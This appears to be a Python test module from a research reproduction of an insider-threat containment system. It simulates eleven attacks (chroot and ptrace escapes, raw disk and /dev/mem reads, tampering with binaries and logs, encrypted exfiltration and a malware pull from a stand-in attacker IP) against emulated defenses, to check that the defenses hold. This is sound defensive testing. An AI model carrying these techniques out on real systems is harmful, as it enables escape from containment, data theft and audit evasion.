"""Executable implementations of the 11 attacks of paper Table 1.

Each attack function takes a :class:`ThreatRig` — a host with planted
secrets, a deployed perforated container with an attached broker, and an
adversarial administrator session — actually *attempts* the attack through
the syscall/ITFS/broker surfaces, and reports whether the deployed
defenses held. Nothing is asserted by fiat: a regression that re-enables
an escape path flips the corresponding result to ``blocked=False``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, FrozenSet, List, Optional

from repro.broker import BrokerClient, PermissionBroker
from repro.broker.secure_channel import SecureBrokerTransport
from repro.containit import (
    ROOT_DIRECTORY,
    PerforatedContainer,
    PerforatedContainerSpec,
)
from repro.errors import (
    AccessBlocked,
    CapabilityError,
    FirewallBlocked,
    IntegrityError,
    NetworkUnreachable,
    SessionTerminated,
    TicketError,
)
from repro.framework.tickets import Role, TicketDatabase
from repro.kernel import (
    Capability,
    Credentials,
    FileType,
    Kernel,
    Network,
)
from repro.kernel.devices import DEV_SDA
from repro.netmon.rules import MalwareSignatureRule
from repro.tcb import IntegrityManifest, SecureBoot, install_watchit_components

SECRET_DOC = b"PK\x03\x04 QUARTERLY-SALARIES-CONFIDENTIAL"
ATTACKER_DROP_IP = "6.6.6.6"
WHITELIST_IP = "8.8.4.4"
MALWARE_BLOB = b"EVIL-LOADER-STAGE2"


@dataclass
class AttackResult:
    """Outcome of one attempted attack."""

    attack_id: int
    name: str
    blocked: bool
    defense: str
    weakness: str = ""
    evidence: str = ""

    def row(self) -> Dict[str, object]:
        return {"id": self.attack_id, "attack": self.name,
                "blocked": self.blocked, "defense": self.defense,
                "weakness": self.weakness}


@dataclass
class ThreatRig:
    """A compromised-insider scenario, ready to be attacked."""

    network: Network
    host: Kernel
    container: PerforatedContainer
    broker: PermissionBroker
    shell: object          # AdminShell of the adversarial admin
    client: BrokerClient
    tickets: TicketDatabase
    golden_manifest: IntegrityManifest
    remote_log: object = None  # the off-host append-only mirror

    #: PSK for the rig's secure broker transport — a fixed value so the
    #: fault plane's channel-corruption schedule is reproducible.
    CHANNEL_PSK = b"watchit-chaos-psk-0001"

    @classmethod
    def build(cls, spec: Optional[PerforatedContainerSpec] = None,
              capabilities: Optional[FrozenSet[Capability]] = None,
              broker_policy: Optional[object] = None
              ) -> "ThreatRig":
        """A host with secrets + a T-6-shaped (full root view) container.

        The full-root configuration is the *most* permissive filesystem
        view WatchIT grants, so any containment it provides holds a
        fortiori for the tighter classes. Broker traffic rides the secure
        channel so chaos testing exercises the full wire path
        (seal → fault plane → broker → fault plane → open).

        ``capabilities`` overrides the admin shell's capability set and
        ``broker_policy`` the broker's escalation policy — both used by
        the model checker's witness-replay harness to stand up rigs that
        match a lint target exactly (including deliberately
        over-privileged fixtures).
        """
        network = Network()
        host = Kernel("victim-ws", ip="10.0.0.5", network=network)
        install_watchit_components(host.rootfs)
        golden = IntegrityManifest.for_watchit(host.rootfs)
        host.rootfs.populate({
            "home": {"victim": {
                "salaries.docx": SECRET_DOC,
                "notes.txt": "public notes",
            }},
        })
        host.register_service("sshd")
        # attacker-controlled drop box + a whitelisted website on the net
        Kernel("dropbox", ip=ATTACKER_DROP_IP, network=network)
        network.listen(ATTACKER_DROP_IP, 443, lambda pkt: b"GOT-IT")
        Kernel("web", ip=WHITELIST_IP, network=network)
        network.listen(WHITELIST_IP, 443,
                       lambda pkt: MALWARE_BLOB if b"download" in pkt.payload
                       else b"HTTP/1.1 200 OK")
        spec = spec or PerforatedContainerSpec(
            name="T-6", description="software (full root view)",
            fs_shares=(ROOT_DIRECTORY,),
            network_allowed=("whitelisted-websites",),
            process_management=True)
        container = PerforatedContainer.deploy(
            host, spec, user="victim",
            address_book={"whitelisted-websites": [(WHITELIST_IP, 443)]},
            container_ip="10.0.0.66")
        # the paper's "replicated on a remote append-only storage": an
        # off-host mirror the contained admin has no path to
        from repro.itfs import AppendOnlyLog
        remote_log = AppendOnlyLog(name="remote-mirror")
        container.fs_audit.add_replica(remote_log)
        # arm the ingress malware detector on the container's namespace
        if container.monitor is not None:
            container.monitor.add_rule(
                MalwareSignatureRule(signatures=[MALWARE_BLOB]))
        broker = PermissionBroker(host, container, policy=broker_policy)
        creds = (Credentials(uid=0, gid=0, caps=capabilities)
                 if capabilities is not None else None)
        shell = container.login("rogue-admin", credentials=creds)
        client = BrokerClient(shell, broker,
                              transport=SecureBrokerTransport(
                                  broker, cls.CHANNEL_PSK))
        tickets = TicketDatabase()
        tickets.register_person("rogue-admin", Role.IT_ADMIN)
        return cls(network=network, host=host, container=container,
                   broker=broker, shell=shell, client=client,
                   tickets=tickets, golden_manifest=golden,
                   remote_log=remote_log)


# ----------------------------------------------------------------------
# attacks 1-4: container escapes
# ----------------------------------------------------------------------

def attack_1_chroot_escape(rig: ThreatRig) -> AttackResult:
    """Issue a second chroot() to break out of the current one."""
    try:
        rig.host.sys.chroot(rig.shell.proc, "/tmp")
        return AttackResult(1, "Escape perforated container boundaries",
                            blocked=False, defense="chroot() capability",
                            evidence="chroot succeeded")
    except CapabilityError as exc:
        return AttackResult(1, "Escape perforated container boundaries",
                            blocked=True, defense="Block chroot() capability",
                            evidence=str(exc))


def attack_2_bind_shell(rig: ThreatRig) -> AttackResult:
    """ptrace an outside process and turn it into a bind shell."""
    target = rig.host.services["sshd"]
    nspid = target.pid_in(rig.shell.proc.namespaces.pid)
    if nspid is None:
        return AttackResult(2, "Bind shell", blocked=True,
                            defense="PID namespace isolation",
                            weakness="IT cannot perform debugging",
                            evidence="no outside process visible")
    try:
        rig.host.sys.ptrace_attach(rig.shell.proc, nspid)
        return AttackResult(2, "Bind shell", blocked=False,
                            defense="ptrace() capability",
                            evidence="ptrace attach succeeded")
    except CapabilityError as exc:
        return AttackResult(2, "Bind shell", blocked=True,
                            defense="Block ptrace() capability",
                            weakness="IT cannot perform debugging",
                            evidence=str(exc))


def attack_3_raw_disk(rig: ThreatRig) -> AttackResult:
    """mknod a raw disk device and read the filesystem beneath ITFS."""
    try:
        rig.host.sys.mknod(rig.shell.proc, "/tmp/rawdisk",
                           FileType.BLOCKDEV, DEV_SDA)
        data = rig.host.sys.read_file(rig.shell.proc, "/tmp/rawdisk")
        return AttackResult(3, "Raw disk mounting", blocked=False,
                            defense="mknod() capability",
                            evidence=f"read {len(data)} raw bytes")
    except CapabilityError as exc:
        return AttackResult(3, "Raw disk mounting", blocked=True,
                            defense="Block mknod() capability",
                            weakness="IT cannot create special files",
                            evidence=str(exc))


def attack_4_memory_tap(rig: ThreatRig) -> AttackResult:
    """Open /dev/mem and scrape kernel memory for secrets."""
    try:
        data = rig.host.sys.read_file(rig.shell.proc, "/dev/mem")
        leaked = b"KERNEL-SECRET" in data
        return AttackResult(4, "Memory tapping", blocked=not leaked,
                            defense="CAP_DEV_MEM (new capability)",
                            evidence="kernel memory read" if leaked else "")
    except CapabilityError as exc:
        return AttackResult(4, "Memory tapping", blocked=True,
                            defense="Block access to /dev/mem & /dev/kmem",
                            evidence=str(exc))


# ----------------------------------------------------------------------
# attacks 5-7: sabotaging WatchIT itself
# ----------------------------------------------------------------------

def attack_5_tamper_watchit(rig: ThreatRig) -> AttackResult:
    """Patch the WatchIT binaries from inside; then check offline tamper."""
    online_blocked = False
    try:
        rig.shell.write_file("/opt/watchit/itfs", b"no-op monitor")
    except AccessBlocked:
        online_blocked = True
    # offline tamper (e.g. via another channel) is caught at next boot
    rig.host.rootfs.write("/opt/watchit/policy-manager", b"backdoored")
    boot_blocked = False
    try:
        SecureBoot(rig.host, manifest=rig.golden_manifest).boot()
    except IntegrityError:
        boot_blocked = True
    finally:
        install_watchit_components(rig.host.rootfs)  # restore
    return AttackResult(
        5, "Tampering with WatchIT software",
        blocked=online_blocked and boot_blocked,
        defense="(1) WatchIT in TCB (2) ITFS blocks WatchIT files",
        evidence=f"online_blocked={online_blocked} boot_blocked={boot_blocked}")


def attack_6_tamper_logs(rig: ThreatRig) -> AttackResult:
    """Rewrite an incriminating audit record."""
    try:
        rig.shell.read_file("/home/victim/salaries.docx")
    except AccessBlocked:
        pass  # the denial we want to erase from the log
    log = rig.container.fs_audit
    incriminating = log.filter(decision="deny")
    if not incriminating:
        return AttackResult(6, "Tampering with log files", blocked=False,
                            defense="", evidence="nothing was logged")
    record = incriminating[-1]
    record.path = "/tmp/innocent"
    # a capable attacker recomputes the digest; if the record is the last
    # one the local chain is self-consistent again — which is exactly why
    # the paper replicates to remote append-only storage
    record.digest = record.compute_digest()
    chain_detected = not log.is_intact()
    replica_detected = log.divergence_from(rig.remote_log) is not None
    return AttackResult(6, "Tampering with log files",
                        blocked=chain_detected or replica_detected,
                        defense="(1) Replication (2) hash-chained "
                                "append-only log",
                        evidence=f"chain_detected={chain_detected} "
                                 f"replica_detected={replica_detected}")


def attack_7_kill_watchit_component(rig: ThreatRig) -> AttackResult:
    """Kill the monitoring daemons; ContainIT must end the session."""
    snort = rig.container.host_peers.get("snort")
    nspid = snort.pid_in(rig.shell.proc.namespaces.pid) if snort else None
    if nspid is None:
        return AttackResult(7, "Kill WatchIT component", blocked=True,
                            defense="PID namespace isolation",
                            evidence="monitor process not visible")
    rig.host.sys.kill(rig.shell.proc, nspid)
    session_died = not rig.container.active
    try:
        rig.shell.listdir("/")
        still_usable = True
    except SessionTerminated:
        still_usable = False
    return AttackResult(7, "Kill WatchIT component",
                        blocked=session_died and not still_usable,
                        defense="Other components exit and terminate session",
                        evidence=f"session_active={rig.container.active}")


# ----------------------------------------------------------------------
# attacks 8-11: data exfiltration and workflow abuse
# ----------------------------------------------------------------------

def attack_8_encrypt_and_exfiltrate(rig: ThreatRig) -> AttackResult:
    """Read a classified file, encrypt it, and ship it out."""
    read_blocked = False
    payload = None
    try:
        payload = rig.shell.read_file("/home/victim/salaries.docx")
    except AccessBlocked:
        read_blocked = True
    if payload is None:
        # fall back: encrypt something we *can* read and try to send it
        payload = rig.shell.read_file("/home/victim/notes.txt") * 64
    encrypted = bytes(b ^ k for b, k in
                      zip(payload, (i * 77 % 256 for i in range(len(payload)))))
    exfil_blocked = False
    try:
        conn = rig.shell.connect(WHITELIST_IP, 443)
        conn.send(encrypted)
    except (AccessBlocked, FirewallBlocked, NetworkUnreachable):
        exfil_blocked = True
    return AttackResult(
        8, "Encrypt and exfiltrate",
        blocked=read_blocked and exfil_blocked,
        defense="(1) ITFS blocks unencrypted classified files "
                "(2) sniffer blocks high-entropy egress",
        weakness="requires ITFS and network sniffer rules",
        evidence=f"read_blocked={read_blocked} exfil_blocked={exfil_blocked}")


def attack_9_fake_tickets(rig: ThreatRig) -> AttackResult:
    """File a self-serving ticket to obtain a view of choice."""
    try:
        rig.tickets.submit("rogue-admin",
                           "please give me a container on the finance server")
        return AttackResult(9, "Fake tickets", blocked=False,
                            defense="role separation",
                            evidence="IT-created ticket accepted")
    except TicketError as exc:
        return AttackResult(9, "Fake tickets", blocked=True,
                            defense="IT personnel cannot create trouble tickets",
                            weakness="collusion with non-admin insider",
                            evidence=str(exc))


def attack_10_ticket_stringing(rig: ThreatRig) -> AttackResult:
    """Handle tickets of several classes; concatenate the views.

    The defense is the *hard constraint* floor: whatever union of views is
    accumulated, classified document content stays unreadable and
    unescorted exfiltration stays blocked in every session.
    """
    from repro.framework.images import TABLE3_SPECS
    leaks = []
    for class_id in ("T-2", "T-8", "T-6"):
        spec = TABLE3_SPECS[class_id]
        container = PerforatedContainer.deploy(
            rig.host, spec, user="victim",
            address_book={"whitelisted-websites": [(WHITELIST_IP, 443)]},
            container_ip=f"10.0.0.{70 + len(leaks)}")
        shell = container.login("rogue-admin")
        try:
            shell.read_file("/home/victim/salaries.docx")
            leaks.append(class_id)
        except (AccessBlocked, Exception):
            pass
        finally:
            container.terminate("stringing probe done")
    return AttackResult(
        10, "Ticket stringing", blocked=not leaks,
        defense="(1) permission-based assignment (2) hard constraints on "
                "all perforated containers",
        evidence=f"leaking classes: {leaks or 'none'}")


def attack_11_malware_install(rig: ThreatRig) -> AttackResult:
    """Pull malware: from an arbitrary site, then from a whitelisted one."""
    arbitrary_blocked = False
    try:
        conn = rig.shell.connect(ATTACKER_DROP_IP, 443)
        conn.send(b"download stage2")
    except (FirewallBlocked, NetworkUnreachable, AccessBlocked):
        arbitrary_blocked = True
    watering_hole_detected = False
    try:
        conn = rig.shell.connect(WHITELIST_IP, 443)
        conn.send(b"download eclipse-installer")
    except AccessBlocked:
        # the ingress malware-signature rule fired on the response
        watering_hole_detected = True
    return AttackResult(
        11, "Malware installation",
        blocked=arbitrary_blocked and watering_hole_detected,
        defense="(1) website whitelisting (2) monitor incoming traffic",
        weakness="watering hole attacks, phishing, etc.",
        evidence=f"arbitrary_blocked={arbitrary_blocked} "
                 f"watering_hole_detected={watering_hole_detected}")


ALL_ATTACKS: List[Callable[[ThreatRig], AttackResult]] = [
    attack_1_chroot_escape,
    attack_2_bind_shell,
    attack_3_raw_disk,
    attack_4_memory_tap,
    attack_5_tamper_watchit,
    attack_6_tamper_logs,
    attack_7_kill_watchit_component,
    attack_8_encrypt_and_exfiltrate,
    attack_9_fake_tickets,
    attack_10_ticket_stringing,
    attack_11_malware_install,
]
